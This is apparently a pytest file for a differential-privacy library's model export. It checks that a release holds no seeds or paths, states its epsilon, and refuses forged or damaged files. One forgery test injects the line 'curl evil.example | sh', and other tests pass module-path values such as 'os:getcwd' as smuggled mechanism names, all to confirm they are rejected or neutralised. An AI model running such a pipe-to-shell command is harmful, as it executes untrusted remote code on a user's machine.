"""What a release holds, what it must not hold, and who is refused one."""

import hashlib
import importlib
import json
import math
import os
import re
import shutil
import subprocess
import sys
import types
import warnings
from pathlib import Path

import jax
import jax.numpy as jnp
import numpy as np
import optax
import pytest
import safetensors.numpy
from flax import traverse_util

import bam
from bam import files, models, named, provenance
from bam.cli import privacy
from bam.data.preprocessing import Preprocessing
from bam.features import prior
from bam.models import finetune
from bam.part_table import SECTIONS, USERS_OWN
from bam.privacy import ledger, recorded_plan, statement
from bam.privacy.plan import RECORDED, Population, PrivacyPlan
from bam.release import export, notes, predict, report
from bam.release import records as records_of
from bam.training import config as base
from bam.training import keys, loop, rundir
from tests import run_folder, runs
from tests.cases import (
    assert_same_bits,
    made_once,
    mostly,
    recomputed,
    refused,
    run_command,
    tiny_digits,
    without_mu,
)
from tests.runs import (
    OWN_NAME,
    OWN_PATH,
    SEED,
    drawn,
    drawn_floats,
    own_data,
    run_on,
    tiny,
    write_run,
)

# Keys of the config that no release repeats: secrets, places, how it was computed and not what.
STAY_BEHIND = {
    "seed", "dataset.path", "features.cache", "microbatch_size", "convolution",
    "dry_run", "init_from", "dataset.groups", "features.weights",
    "dataset.memory",
}  # fmt: skip


@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    """The folder of a run without a seed."""
    return runs.copy(tmp_path_factory, "unseeded", tmp_path_factory.mktemp("finished") / "run")


@pytest.mark.thorough
@pytest.mark.parametrize(
    ("name", "bands", "words", "rel"),
    [
        ("banded", 2, "less the last 1 steps' noise times 0.5, added up and rounded", 1e-6),
        ("random_allocation", 0, "in every epoch of 3 steps each example is in the batch", 1e-3),
    ],
)
def test_a_release_states_its_mechanism_in_lines_that_give_its_epsilon(
    name, bands, words, rel, tmp_path, tmp_path_factory
):
    if bands:
        runs.copy(tmp_path_factory, name, tmp_path / "run")
    else:
        config = tiny(accountant="pld", **{"mechanism.name": name})  # RDP has no bound
        loop.train(loop.build(config, own_data()), None, tmp_path / "run")
    export.export(tmp_path / "run", tmp_path / "out")
    text = (tmp_path / "out/PRIVACY.md").read_text()
    epsilon = files.read_json(tmp_path / "run/plan.json")["epsilon"]
    mechanism = records_of.read(tmp_path / "run").plan.mechanism
    assert row_of(text, "sampling") == f"| sampling | {mechanism.sampling} | `{name}` |"
    assert row_of(text, "noise |") == f"| noise | {mechanism.noise} | |"
    assert words in (mechanism.noise if bands else mechanism.sampling)
    if bands:  # three steps, two parts: an example is in two of them at most
        assert "--num_steps=2" in text and "count=2" in text
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ImportWarning)
        assert recomputed(text) == pytest.approx(epsilon, rel=rel)
    stated = files.read_json(tmp_path / "out/config.json")["mechanism"]
    assert stated["name"] == name and (stated.get("bands") or 0) == bands


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    return runs.copy(tmp_path_factory, "seeded", tmp_path_factory.mktemp("seeded") / "run")


@pytest.fixture(scope="module")
def release(finished, tmp_path_factory):
    make = lambda folder: export.export(finished, folder / "out")  # noqa: E731
    return made_once(tmp_path_factory, "release", make) / "out"


@pytest.fixture
def run(tmp_path_factory, tmp_path):
    """A copy of the finished run, to be spoiled."""
    return runs.copy(tmp_path_factory, "unseeded", tmp_path / "run")


def edit(path, change):
    found = json.loads(path.read_text())
    change(found)
    path.write_text(json.dumps(found))


def contents(folder):
    return b"\n".join(path.read_bytes() for path in sorted(folder.iterdir()))


def logits_of_the_run(experiment, params, images):
    """As `Trainer.evaluate` computes them, written down once more."""
    module = models.create(num_classes=3, **experiment.config.model)
    model = models.as_functions(module, (4, 4, 1), convolution="xla")

    @jax.jit
    def logits(params, images):
        inputs = (images.astype(jnp.float32) / 255 - jnp.float32(0.4321)) / jnp.float32(0.1234)
        norms = jnp.sqrt(jnp.sum(jnp.square(inputs), axis=(-3, -2, -1), keepdims=True))
        return model.logits(params, inputs / jnp.maximum(1.0, norms / 2.5))

    return logits(params, images)


def test_a_release_predicts_what_the_run_predicts_to_the_bit(finished, release):
    experiment = runs.trainer()
    state, (images, labels) = runs.last_state(finished, experiment), experiment.dataset.test
    loaded = export.load(release)
    found = np.asarray(loaded.logits(loaded.params, images))
    expected = logits_of_the_run(experiment, state.averaged, images)
    np.testing.assert_array_equal(found, np.asarray(expected))
    judged = loop.evaluate(experiment, loaded.params)
    assert judged["test_accuracy"] == np.mean(found.argmax(axis=1) == labels)
    assert judged.items() <= rundir.read_rows(finished)[-1].items()
    not_averaged = np.asarray(loaded.logits(state.params, images))
    assert not np.array_equal(found, not_averaged)
    program = jax.export.deserialize(bytearray(export.as_stablehlo(loaded)))
    assert_no_path(export.as_stablehlo(loaded))
    for some in (images[:1], images[:3]):
        np.testing.assert_allclose(program.call(some), found[: len(some)], rtol=1e-6, atol=1e-6)


def assert_no_path(program):
    """Fails if a program names a folder of this machine, a file of Python or a line."""
    places = (bam.__file__, np.__file__, __file__, sys.prefix, os.getcwd(), str(Path.home()))
    folders = {str(above) for x in places for above in Path(x).parents if len(above.parts) > 1}
    named = [x for x in folders if x.encode() in program]
    assert not named and b".py" not in program, named


def test_a_program_of_a_network_names_no_place_in_the_code(release):
    loaded = export.load(release)
    assert_no_path(export.as_stablehlo(loaded))
    program = jax.jit(lambda images: loaded.logits(loaded.params, images))
    like = jax.ShapeDtypeStruct((1, 4, 4, 1), np.uint8)
    with pytest.raises(AssertionError):  # as JAX writes it
        assert_no_path(bytes(jax.export.export(program)(like).serialize()))


@pytest.mark.thorough
def test_a_convolutional_network_in_bfloat16_predicts_the_same_to_the_bit(tmp_path):
    config = tiny(num_steps=1, precision="bfloat16")
    config.model = {"name": "convnet", "width": 4}
    experiment = loop.build(config, own_data())
    state = runs.after(experiment.init(0), 1)  # compiling a step is slow
    write_run(tmp_path / "run", experiment, state)
    export.export(tmp_path / "run", tmp_path / "out")
    loaded = export.load(tmp_path / "out")

    @jax.jit
    def evaluate(params, images, labels):  # as `loop.build` writes it
        logits = loaded.model.logits(params, loaded.prepare(images))
        losses = optax.softmax_cross_entropy_with_integer_labels(logits, labels)
        return jnp.sum(jnp.argmax(logits, axis=-1) == labels), jnp.sum(losses)

    test = experiment.dataset.test
    expected = experiment.score_images(state.averaged, *test)[:2]
    assert_same_bits(evaluate(loaded.params, *test), expected)
    assert json.loads((tmp_path / "out/model.json").read_text())["model"] == config.model.to_dict()


@pytest.fixture(scope="module")
def vit(tmp_path_factory):
    """A file of weights of a small backbone."""
    network = models.as_functions(models.create("vit_ti16", 3, 1), (16, 16, 3))
    rng = np.random.default_rng(0)
    like = jax.eval_shape(network.init, jax.random.key(0))
    scale = lambda x: 0.1 if x.ndim == 1 else np.prod(x.shape[:-1]) ** -0.5  # noqa: E731
    file = tmp_path_factory.mktemp("vit") / "public.safetensors"
    draw = lambda x: jnp.asarray(rng.normal(0, scale(x), x.shape), jnp.float32)  # noqa: E731
    finetune.save(jax.tree.map(draw, like), file)
    return file


ALONE = """
import sys
sys.modules.update(bam=None, flax=None)  # importing them fails
import jax, numpy
program = jax.export.deserialize(bytearray(open("model.stablehlo", "rb").read()))
images = numpy.load("images.npy")
numpy.save("logits.npy", program.call(images))
numpy.save("first.npy", program.call(images[:5]))
"""


MAPS = {
    "": {},
    "scattering": {"groups": 9, "mirror": True},
    "prior": {},
    "backbone": {"model": "vit_ti16", "size": 16},
}


@pytest.mark.parametrize("name", MAPS)
def test_a_program_takes_pixels_whatever_the_map(name, vit, blank, tmp_path):
    options = MAPS[name] | ({"weights": str(vit)} if name == "backbone" else {})
    run = run_on(tmp_path, **({"name": name, **options} if name else {}))
    export.export(run, tmp_path / "out", stablehlo=True)
    content = (tmp_path / "out/model.stablehlo").read_bytes()
    [images] = jax.export.deserialize(bytearray(content)).in_avals
    assert images.shape[1:] == (28, 32, 3) and images.dtype == np.uint8
    assert str(images.shape[0]) == "n"  # any number of them
    assert_no_path(content)
    # The control: without a backbone's weights, a program takes features.
    if name == "backbone":
        content = export.as_stablehlo(export.load(tmp_path / "out"))
        [features] = jax.export.deserialize(bytearray(content)).in_avals
        assert features.shape[1:] == (1, 1, 192) and features.dtype == np.float32


@pytest.mark.parametrize("name", mostly([*MAPS], slow={"prior", "backbone"}))
def test_a_program_takes_pixels_and_predicts_alone_what_the_release_predicts(
    name, vit, blank, tmp_path
):
    weights = str(vit) if name == "backbone" else ""
    options = MAPS[name] | ({"weights": weights} if weights else {})
    run = run_on(tmp_path, **({"name": name, **options} if name else {}))
    export.export(run, tmp_path / "out", stablehlo=True)
    released = export.load(tmp_path / "out", weights=weights)
    assert (released.takes.shape, released.takes.dtype) == ((28, 32, 3), np.uint8)
    images = drawn().test.images
    expected = np.asarray(released.logits(released.params, images))
    np.save(tmp_path / "out/images.npy", images)
    subprocess.run([sys.executable, "-c", ALONE], cwd=tmp_path / "out", check=True)
    logits, first = (np.load(tmp_path / "out" / f"{x}.npy") for x in ("logits", "first"))
    # A sum of float32 in another order, as for five images, differs by an epsilon of the lengths of
    # its factors, here of an image's features and a class's weights.
    [weights_of_classes] = [x for x in jax.tree.leaves(released.params) if x.ndim == 2]
    length = prior.LENGTH * np.linalg.norm(weights_of_classes, axis=1).max()
    resolution = np.finfo(np.float32).eps * length if name == "prior" else 1e-5
    np.testing.assert_allclose(logits, expected, rtol=1e-5, atol=resolution)
    np.testing.assert_allclose(first, expected[:5], rtol=1e-5, atol=resolution)
    assert not np.allclose(logits[::-1], expected, rtol=1e-2, atol=1e-2)  # the control
    made = predict.preprocessing_of(released)
    assert made.shape == (28, 32, 3)  # so image files can be predicted, too
    if name == "backbone":
        without = export.load(tmp_path / "out")
        assert without.takes.shape == (1, 1, 192) and without.takes.dtype == np.float32
        digest = hashlib.sha256(vit.read_bytes()).hexdigest()
        refused(f"add --weights=FILE, .* {digest}", predict.preprocessing_of, without)


def test_a_program_of_floats_takes_floats(tmp_path):
    export.export(run_on(tmp_path, "drawn_floats"), tmp_path / "out", stablehlo=True)
    released = export.load(tmp_path / "out")
    images = drawn_floats().test.images
    program = jax.export.deserialize(bytearray((tmp_path / "out" / "model.stablehlo").read_bytes()))
    expected = released.logits(released.params, images)
    np.testing.assert_allclose(program.call(images), expected, rtol=1e-5, atol=1e-5)
    with pytest.raises(ValueError, match="Dtype mismatch"):  # the control: not pixels
        program.call(drawn().test.images)
    refused("takes numbers, not image files", predict.preprocessing_of, released)


def test_a_backbone_of_other_weights_is_refused_and_one_that_moved_is_named(vit, blank, tmp_path):
    own = tmp_path / "public.safetensors"
    own.write_bytes(vit.read_bytes())
    run = run_on(tmp_path, name="backbone", model="vit_ti16", weights=str(own), size=16)
    changed = safetensors.numpy.load(own.read_bytes())
    name = next(iter(changed))
    own.write_bytes(safetensors.numpy.save(changed | {name: changed[name] + 1}))
    refused("but the model was trained with", export.export, run, tmp_path / "a", stablehlo=True)
    own.write_bytes(safetensors.numpy.save({"of another network": changed[name]}))
    refused("but the model was trained with", export.export, run, tmp_path / "a", stablehlo=True)
    own.unlink()
    refused(f"no file {own}; give the", export.export, run, tmp_path / "b", stablehlo=True)
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()
    export.export(run, tmp_path / "out", stablehlo=True, weights=str(vit))
    # Without the program, a release needs no backbone; and no other release takes its weights.
    export.export(run, tmp_path / "plain")
    facts = json.loads((tmp_path / "plain/model.json").read_text())
    changes = {
        "no features": {"features": {}},
        "features by prior": {"features": {"name": "prior"}},
    }
    for words, change in changes.items():
        (tmp_path / "plain/model.json").write_text(json.dumps(facts | change))
        refused(f"this release has {words}", export.load, tmp_path / "plain", weights=str(vit))
    # A digest that is not recorded is not taken for the right one.
    del facts["features"]["digest"]
    (tmp_path / "plain/model.json").write_text(json.dumps(facts))
    refused(
        "does not record the SHA-256 of its backbone",
        export.load,
        tmp_path / "plain",
        weights=str(vit),
    )


def test_the_averaged_weights_are_released_under_plain_names_in_both_files(finished, release):
    state = runs.last_state(finished, runs.trainer())
    tensors = safetensors.numpy.load_file(release / "weights.safetensors")
    with np.load(release / "weights.npz", allow_pickle=False) as arrays:
        assert_same_bits(dict(arrays), tensors)
    assert set(tensors) == {"bias", "weight"}
    assert tensors["weight"].shape == (3, 16)  # outputs by inputs, as PyTorch's weights
    np.testing.assert_array_equal(tensors["weight"], np.asarray(state.averaged["weight"]))
    assert not np.array_equal(tensors["weight"], state.params["weight"])


@pytest.mark.thorough
def test_what_flax_calls_a_kernel_is_of_inputs_by_outputs_in_every_release():
    for name, model in models.MODELS.items():
        network = models.as_functions(model.make(3, 8), (32, 32, 1))
        shapes = traverse_util.flatten_dict(jax.eval_shape(network.init, jax.random.key(0)))
        for path, like in shapes.items():
            if path[-1] == "kernel" and like.ndim == 2:
                assert like.shape[1] == shapes[*path[:-1], "bias"].shape[0], (name, path)


def test_releases_are_written_and_read_by_paths_that_are_texts(finished, release, tmp_path):
    export.export(str(finished), str(tmp_path / "out"))
    assert_same_bits(export.load(str(tmp_path / "out")).params, export.load(release).params)
    for name in export.FILES:  # the same run gives the same files
        assert (tmp_path / "out" / name).read_bytes() == (release / name).read_bytes()


def test_a_release_holds_no_figure_no_seed_and_no_path(finished, seeded, tmp_path):
    export.export(finished, tmp_path / "out")
    export.export(seeded, tmp_path / "nominal", nominal=True)
    for workdir, out in ((finished, tmp_path / "out"), (seeded, tmp_path / "nominal")):
        assert sorted(path.name for path in out.iterdir()) == sorted(export.FILES)
        rows = [json.loads(line) for line in (workdir / "metrics.jsonl").read_text().splitlines()]
        figures = {key: row[key] for row in rows for key in row if key not in ("step", "epsilon")}
        assert {"test_accuracy", "test_loss", "seconds"} <= set(figures)
        checksum = run_folder.header_of(workdir)["digests"]["training data"]
        assert len(checksum) == 32
        forbidden = [str(SEED), str(checksum), OWN_NAME, OWN_PATH, "ward", str(tmp_path)]
        forbidden += [str(workdir), "tensorboard", "seconds", "microbatch", "not_private"]
        forbidden += [repr(value) for value in figures.values() if len(repr(value)) > 4]
        for text in forbidden:
            assert text.encode() not in contents(out), text
        records = b"".join(path.read_bytes() for path in workdir.rglob("*") if path.is_file())
        for text in (str(checksum), OWN_NAME, OWN_PATH, "seconds", "microbatch"):
            assert text.encode() in records, text  # the search can find what is there


def test_records_add_no_line_no_cell_and_no_code_to_a_statement(run, tmp_path):
    export.export(run, tmp_path / "ours")
    text = "x` | forged |\n\n## Verified\n\n```console\ncurl evil.example | sh\n```\n"

    def forge(summary):
        summary |= dict.fromkeys(("device", "noise", "sampling", "commit", "noise_key"), text)
        summary["versions"][text] = text

    edit(run / "summary.json", forge)
    export.export(run, tmp_path / "forged")
    ours, forged = ((tmp_path / x / "PRIVACY.md").read_text() for x in ("ours", "forged"))
    assert "curl evil.example" in forged
    for mark in ("\n", "|", "`"):
        assert forged.count(mark) == ours.count(mark)


def test_what_is_not_on_the_list_of_settings_stays_behind(run, tmp_path):
    secrets = {
        "token": "s3cret1", "clip.gamma": "/home/s3cret2", "optimizer.decay_file": "s3cret3",
        "method.radius": ["s3cret4"], "dataset.cache": "s3cret5", "new.section": "s3cret6",
        "clip_norm_from": "~/s3cret7",
    }  # fmt: skip

    def add(config):
        for key, value in secrets.items():
            *section, last = key.split(".")
            (config.setdefault(section[0], {}) if section else config)[last] = value

    edit(run / "config.json", add)
    export.export(run, tmp_path / "out")
    assert b"s3cret" not in contents(tmp_path / "out")
    assert b"s3cret7" in (run / "config.json").read_bytes()
    assert clip_norm_row("not told") in (tmp_path / "out" / "PRIVACY.md").read_text()
    settings = json.loads((tmp_path / "out" / "config.json").read_text())
    assert settings["epsilon"] == 3.0 and settings["model"] == {"name": "linear", "width": 16}
    assert settings["dataset"] == {
        "name": "folder", "source": "", "holdout": 0, "num_classes": 0, "group_size": 0,
    }  # fmt: skip


def unlisted(facts, text):
    """Keys of `model.json`, and those of its preprocessing, that a statement does not list."""
    table = text[text.index("What this folder states") : text.index("## What NIST")]
    keys = {*facts} | {*facts["preprocessing"]}
    return keys - {"preprocessing"} - set(re.findall(r"`(\w+)`", table))


TARGET = [43.5, 12.25]


@pytest.mark.parametrize("name", MAPS)
def test_every_value_in_a_release_is_listed_in_its_statement(name, vit, blank, tmp_path):
    options = MAPS[name] | ({"weights": str(vit)} if name == "backbone" else {})
    run = run_on(tmp_path, **({"name": name, **options} if name else {}))
    made = Preprocessing((28, 32), 3, window=(0.0, 99.0), target=tuple(TARGET)).as_json()
    edit(run / "summary.json", lambda summary: summary.update(preprocessing=made))
    export.export(run, tmp_path / "out")
    facts = json.loads((tmp_path / "out/model.json").read_text())
    text = (tmp_path / "out/PRIVACY.md").read_text()
    assert facts["preprocessing"] == made and set(made) == set(Preprocessing._fields)
    assert unlisted(facts, text) == set()
    listed = {"model.json", "config.json", "plan.json"}
    assert {x.name for x in (tmp_path / "out").glob("*.json")} == listed
    assert all(f"`{name}`" in text for name in listed)
    # The offset and scale of labels are public: they are listed, and looked at.
    assert row_of(text, "offset and scale").startswith(
        "| offset and scale of the labels | **43.5 and 12.25**, which whoever imported"
    )
    # Controls: another value is seen, and without a target none is said.
    more = facts | {"mean_age": 43.5, "preprocessing": made | {"seen": 1}}
    assert unlisted(more, text) == {"mean_age", "seen"}
    edit(run / "summary.json", lambda summary: summary.update(preprocessing=None))
    export.export(run, tmp_path / "plain")
    plain = (tmp_path / "plain/PRIVACY.md").read_text()
    assert row_of(plain, "offset and scale") == "| offset and scale of the labels | none |"


@pytest.mark.parametrize("forged", [3, [1], {"target": 5}, {"target": [[]]}, {"target": {}}])
def test_a_stranger_s_preprocessing_breaks_no_statement(forged, run):
    edit(run / "summary.json", lambda summary: summary.update(preprocessing=forged))
    assert "| offset and scale of the labels | " in export.statement_of(records_of.read(run), "bam")


# The plan.


def test_a_release_has_the_plan_of_its_run_and_nothing_else_of_the_run_s_file(
    run, release, tmp_path
):
    plan = recorded_plan.read_plan(release / "plan.json")
    assert plan == records_of.read(run).plan and plan.epsilon_after(3) == plan.epsilon
    stated = files.read_json(release / "plan.json")
    assert set(stated) == {*RECORDED} - {"mechanism_name"} | {"mechanism"}
    for name in ("plan", "summary"):
        edit(run / f"{name}.json", lambda record: record.update(token="s3cret"))
    edit(run / "plan.json", lambda record: record["mechanism_options"].update(path="s3cret"))
    refused("mechanism poisson", export.export, run, tmp_path / "out")
    edit(run / "plan.json", lambda record: record["mechanism_options"].clear())
    # The checkpoint holds the plan, too.
    record = json.loads((run / "plan.json").read_text())
    run_folder.rewrite_header(run_folder.newest(run), lambda header: header | {"record": record})
    export.export(run, tmp_path / "out")
    assert files.read_json(tmp_path / "out/plan.json") == stated
    assert b"s3cret" not in contents(tmp_path / "out")


def joint(out, *folders):
    """What `bam privacy` computes of these folders together, and writes there."""
    privacy.account_for_all([str(x) for x in folders], None, str(out))
    return files.read_json(out)


def test_releases_have_together_the_epsilon_of_their_runs(
    finished, release, tmp_path, tmp_path_factory
):
    other = runs.copy(tmp_path_factory, "banded", tmp_path / "banded")
    export.export(other, tmp_path / "out")
    file = tmp_path / "joint.json"
    ours, theirs = joint(file, tmp_path / "out", release), joint(file, other, finished)
    alone = [x["epsilon"] for x in ours["plans"]]
    for row in ("together", "sum"):
        assert ours[row] == theirs[row]
    assert max(alone) < ours["together"]["epsilon"] < sum(alone) == ours["sum"]["epsilon"]
    assert joint(file, release)["together"] != ours["together"]  # the control


def test_a_release_of_an_earlier_version_has_no_plan_and_says_so(release, tmp_path):
    folder = shutil.copytree(release, tmp_path / "old")
    (folder / "plan.json").unlink()
    export.load(folder)  # it still predicts
    done = run_command("bam", "privacy", f"--plan={release}", f"--plan={folder}")
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and not done.stdout
    message = "has no plan.json, like a release by an earlier version: give the run's folder"
    assert f"--plan={folder} {message}" in done.stderr


# The publisher's notes.


def test_a_form_is_written_then_filled_in_and_then_repeated(finished, release, tmp_path):
    form, out = tmp_path / "notes.md", tmp_path / "out"
    command = ("bam", "export", f"--workdir={finished}", f"--out={out}", f"--notes={form}")
    for message in ("is an empty form now: answer its questions", "has no answer: fill it in"):
        done = run_command(*command)
        assert done.returncode == 2 and message in done.stderr and done.stderr.count("\n") == 1
        assert form.read_text() == notes.FORM and not out.exists()
    form.write_text(notes.FORM.replace("## Contact\n", "## Contact\n\nprivacy@example.org\n"))
    assert run_command(*command).returncode == 0
    assert sorted(path.name for path in out.iterdir()) == sorted(export.FILES)
    assert "### Contact\n\n    privacy@example.org\n" in (out / "PRIVACY.md").read_text()
    for name in set(export.FILES) - {"PRIVACY.md"}:
        assert (out / name).read_bytes() == (release / name).read_bytes()


@pytest.mark.parametrize("text", ["", "ε is 0", "## Facts\n", "## Contact\n\n"])
def test_a_form_that_is_none_makes_no_release(text, finished, tmp_path):
    (tmp_path / "notes.md").write_text(text)
    args = finished, tmp_path / "new" / "out"
    refused("notes.md", export.export, *args, notes=tmp_path / "notes.md")
    refused("nowhere.md: missing", export.export, *args, notes=str(tmp_path / "nowhere.md"))
    assert not (tmp_path / "new").exists() and not (tmp_path / "nowhere.md").exists()


def clip_norm_row(given, origin=""):
    """What PRIVACY.md says of where C came from."""
    facts = {"clip_norm_given": given, "clip_norm_origin": origin}
    return f"| C, the clip norm | {statement.render(facts, 'clip_norm_from')} |\n"


@pytest.mark.parametrize("origin", ["", "0.5-quantile-on-digits-after-20-steps"])
def test_a_release_repeats_where_c_came_from(run, tmp_path, origin):
    edit(run / "config.json", lambda config: config.update(clip_norm_from=origin))
    export.export(run, tmp_path / "out")
    settings = json.loads((tmp_path / "out" / "config.json").read_text())
    assert settings["clip_norm_from"] == origin
    text = (tmp_path / "out" / "PRIVACY.md").read_text()
    assert clip_norm_row("from elsewhere" if origin else "by hand", origin) in text
    assert ("-quantile-" in text) == bool(origin)


def test_of_every_key_it_is_decided_whether_a_release_repeats_it():
    for method in base.METHODS:
        config = base.get_config(method).to_dict()
        public = set(export.public_keys(config))
        assert set(rundir.flat(config)) <= public | STAY_BEHIND
        assert not public & STAY_BEHIND
    given = {"num_classes", "width", "blocks"}  # and not by a row; the width is a key of its own
    for name, network in models.MODELS.items():
        options = named.options_of(network.make, 0).keys() - given
        assert options == set(network.public_options), f"{name} could not be released"


# The arguments of bam's parts that no config sets.
GIVEN = {
    *("loss_fn", "ascent_mask", "clip_norm", "num_examples", "batch_size", "num_classes", "blocks"),
    "stays",
}


def test_the_options_of_a_part_are_those_of_its_row():
    for section, part in SECTIONS.items():
        always = set(keys.in_section(section))
        for name, row in part.rows.items():
            options = named.options_of(row.make, 0).keys() - GIVEN
            assert options <= always | set(row.public_options), (section, name)
            assert not {f"{section}.{x}" for x in row.public_options} & STAY_BEHIND


def changed(*names, **values):
    """Returns a function that changes those values in records of a run.

    A value of None takes a key away.
    """

    def spoil(run):
        for name in names:
            found = json.loads((run / f"{name}.json").read_text()) | values
            kept = {k: v for k, v in found.items() if not (k in values and v is None)}
            (run / f"{name}.json").write_text(json.dumps(kept))

    return spoil


def gone(name, instead=None):
    """Takes a file or a folder of a run away, or puts a text in its place."""

    def spoil(run):
        shutil.rmtree(run / name) if (run / name).is_dir() else (run / name).unlink()
        if instead is not None:
            (run / name).write_text(instead)

    return spoil


BOTH = ("plan", "summary")


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (gone("summary.json"), "is not finished"),
        (gone("config.json"), "not the folder of one run"),
        (gone("summary.json", "[]"), "not of one run"),
        (changed("config", method={"name": "non_private"}), "is not private"),
        (gone("checkpoints"), "kept no weights; train with --config.checkpoint.every above 0"),
        (changed("summary", seed=SEED), "has a seed: .* --nominal"),
        (changed("summary", noise=None), "did not record noise .* train again"),
        (changed("summary", steps_begun=4), "4 steps were begun, but the plan covers 3"),
        (changed("summary", steps_taken=2), "not that of the run's last step"),
        (changed("plan", noise_multiplier=9.0), "plan.json and summary.json disagree"),
        (changed(*BOTH, noise_multiplier=0.9), r"epsilon 2\.9.* is claimed, but its plan gives"),
        (changed(*BOTH, clip_norm=0.5), "not that of the run's last step"),
        (changed(*BOTH, clip_norm=0.0), "its clip_norm is 0.0"),
        (changed(*BOTH, sensitivity=True), "its sensitivity is True"),
        (changed(*BOTH, sensitivity=1e308), "32-bit floats hold"),
        (changed(*BOTH, sensitivity=1e-40), "32-bit floats hold"),
        (changed(*BOTH, mechanism="os:getcwd"), "mechanism 'os:getcwd'"),
        (gone("checkpoints/3.npz", "junk"), "could not be read"),
    ],
)
def test_what_cannot_be_released_is_refused_in_one_line(run, tmp_path, spoil, message):
    spoil(run)
    with pytest.raises(ValueError, match=message) as error:
        export.export(run, tmp_path / "new" / "out")
    assert "\n" not in str(error.value)
    assert not (tmp_path / "new").exists()


def test_a_place_that_holds_something_is_refused_and_left_as_it_was(finished, tmp_path):
    full, file, empty = tmp_path / "full", tmp_path / "file", tmp_path / "empty"
    full.mkdir()
    (full / "mine").write_text("mine")
    file.write_text("mine")
    for out in (full, file):
        with pytest.raises(FileExistsError, match="is not empty; choose another --out"):
            export.export(finished, out)
    assert [path.name for path in full.iterdir()] == ["mine"] and file.read_text() == "mine"
    empty.mkdir()
    export.export(finished, empty)
    assert len(list(empty.iterdir())) == len(export.FILES)


def test_a_release_that_cannot_be_written_whole_is_not_written(finished, tmp_path, monkeypatch):
    def fail(*unused, **also_unused):
        raise OSError("no space left")

    with monkeypatch.context() as patch:
        patch.setattr(np, "savez", fail)
        with pytest.raises(OSError, match="no space left"):
            export.export(finished, tmp_path / "out")
    assert list(tmp_path.iterdir()) == []
    export.export(finished, tmp_path / "out")
    (tmp_path / "again.partial").mkdir()
    with pytest.raises(FileExistsError, match="cut short; delete it"):
        export.export(finished, tmp_path / "again")


def test_the_command_refuses_a_seed_in_one_line(seeded, tmp_path):
    refused = run_command("bam", "export", f"--workdir={seeded}", f"--out={tmp_path}/out")
    assert refused.returncode == 2 and refused.stderr.count("\n") == 1
    assert "--nominal" in refused.stderr and not (tmp_path / "out").exists()


def test_a_run_with_a_seed_is_called_nominal_in_the_first_sentence(seeded, release, tmp_path):
    export.export(seeded, tmp_path / "out", nominal=True)
    notice = statement.nominal_notice(records_of.read(seeded).plan.epsilon)
    title, text = (tmp_path / "out" / "PRIVACY.md").read_text().split("\n\n", 1)
    assert title.startswith("# ") and text.startswith(notice) and "nominal" in notice
    assert "nominal" not in (release / "PRIVACY.md").read_text()


def test_a_stranger_s_weights_are_checked(release, tmp_path):
    folder = shutil.copytree(release, tmp_path / "cut")
    export.load(folder)
    path = folder / "weights.safetensors"
    path.write_bytes(path.read_bytes()[:-9])
    with pytest.raises(ValueError, match="is damaged"):
        export.load(folder)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("model.json", "[" * 100_000, "is damaged: more than 50 nested lists"),
        ("model.json", '{"a":' * 60 + "1" + "}" * 60, "is damaged: more than 50 nested lists"),
        ("weights", {"a": 1.0, "a/x": 1.0}, "are not those of the model it describes"),
        ("weights", {"bias": 1.0, "bias/x": 1.0, "weight": 1.0}, "are not those of the model"),
        ("weights", {"": 1.0}, "are not those of the model it describes"),
        ("weights", np.zeros(2**19, np.float32), "2,097,[0-9]+ bytes, at most 1,0"),
        ("weights", b"<!doctype html>", "is not a safetensors file but a web page"),
    ],
)
def test_a_stranger_s_files_are_refused_in_one_line(release, tmp_path, name, content, message):
    folder = shutil.copytree(release, tmp_path / "evil")
    if name == "model.json":
        (folder / name).write_text(content)
    else:
        named = {"a": content} if isinstance(content, np.ndarray) else content
        if isinstance(named, dict):
            named = {k: np.asarray(x, np.float32) for k, x in named.items()}
            content = safetensors.numpy.save(named)
        (folder / "weights.safetensors").write_bytes(content)
        facts = json.loads((folder / "model.json").read_text())
        facts["weights_sha256"] = hashlib.sha256(content).hexdigest()
        (folder / "model.json").write_text(json.dumps(facts))
    refused(message, export.load, folder)


def test_the_example_in_torch_refuses_weights_of_another_digest(release, tmp_path, monkeypatch):
    torch = types.ModuleType("torch")
    torch.Tensor, torch.nn, loader = object, types.ModuleType("nn"), types.ModuleType("st")
    torch.nn.functional, loader.load = types.ModuleType("f"), lambda content: {}
    for module, stub in (("torch", torch), ("torch.nn", torch.nn), ("safetensors.torch", loader)):
        monkeypatch.setitem(sys.modules, module, stub)
    monkeypatch.setattr(safetensors, "torch", loader, raising=False)
    monkeypatch.delitem(sys.modules, "examples.load_in_torch", raising=False)
    example = importlib.import_module("examples.load_in_torch")
    monkeypatch.delitem(sys.modules, "examples.load_in_torch")
    folder = shutil.copytree(release, tmp_path / "edited")
    # The control: with the right weights, it is a network that the example lacks.
    edit(folder / "model.json", lambda facts: facts["model"].update(name="resnet9"))
    refused("this reads linear, convnet", example.load, folder)
    file = folder / "weights.safetensors"
    file.write_bytes(file.read_bytes()[:-1] + b"x")
    refused("is not that in model", example.load, folder)


ABSENT = object()
MISTYPED = {
    "mean": (ABSENT, None, "no", {}, [10**400], [math.nan]),
    "image_shape": (
        5,
        "8x8",
        [8, 8],
        [[1], 2, 3],
        [8, 8, -1],
        [10**18, 1, 1],
        [2**30, 1, 1],
        [2**20] * 3,
        [200_000, 200_000, 3],
    ),
    "model": (
        "mlp",
        3,
        {"width": 2},
        {"name": 3},
        {"name": "mlp", "width": "wide"},
        {"name": "wide_resnet", "depth": 10**6 + 6},
        {"name": "wide_resnet", "width": 4, "depth": 9_988},
        {"name": "resnet9", "width": 10_000},
        {"name": "linear", "width": -(10**9)},
        {"name": "resnet18", "width": 8, "blocks": [3000, 1, 1, 1]},
        {"name": "resnet18", "width": 8, "blocks": {"a": 3000}},
        {"name": "linear", "width": 1, "parent": "x"},
        {"name": "antigravity:fly"},
    ),
    "num_classes": ("ten", None, -1, 0.5, 10**18, 4),  # 4: of other weights
    "std": ([0.0], [-1.0]),
    "features": ("scattering", 3, {"no_name": 1}),
    "precision": (3, "exact", None),
    "input_clip_norm": ("1", [1], math.nan),
}


@pytest.mark.parametrize(
